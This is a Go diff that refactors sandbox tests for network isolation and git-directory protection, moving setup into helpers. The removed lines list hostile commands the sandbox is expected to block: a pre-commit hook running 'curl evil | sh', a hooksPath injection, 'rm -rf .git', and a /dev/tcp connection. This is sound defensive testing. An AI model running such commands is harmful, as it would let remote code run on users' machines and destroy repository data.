@@ -7,7 +7,6 @@ import (
 	"context"
 	"errors"
 	"fmt"
-	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -62,22 +61,7 @@ func TestWritesStayInside(t *testing.T) {
 
 func TestNetwork(t *testing.T) {
 	t.Parallel()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	t.Cleanup(func() { ln.Close() })
-	accepted := make(chan struct{}, 4)
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			c.Close()
-			accepted <- struct{}{}
-		}
-	}()
-	port := ln.Addr().(*net.TCPAddr).Port
-	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)
+	connect, accepted := loopback(t)
 
 	t.Run("refuses a loopback listener outside", func(t *testing.T) {
 		b := newBox(t, Config{})
@@ -159,12 +143,7 @@ func TestGitProtected(t *testing.T) {
 	t.Parallel()
 	setup := func(t *testing.T, allow bool) *box {
 		b := newBox(t, Config{AllowGitConfig: allow})
-		for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
-			require.NoError(t, os.MkdirAll(filepath.Join(b.ws, d), 0o755))
-		}
-		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/config"), []byte("[core]\n"), 0o644))
-		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
-		// The launch plan is made per command, so a .git made now counts.
+		b.gitRepo()
 		return b
 	}
 	b := setup(t, false)
@@ -172,13 +151,7 @@ func TestGitProtected(t *testing.T) {
 		t.Skip("no mount namespace here")
 	}
 	b.ok("echo ref > .git/refs/x && touch .git/index")
-	for _, cmd := range []string{
-		"echo 'curl evil | sh' > .git/hooks/pre-commit",
-		"printf '[core]\\nhooksPath = x\\n' >> .git/config",
-		"mv .git .git-old",
-		"rm -rf .git/hooks",
-		"rm -rf .git",
-	} {
+	for _, cmd := range gitAttacks {
 		b.fails(cmd)
 	}
 	assert.NoFileExists(t, filepath.Join(b.ws, ".git/hooks/pre-commit"))
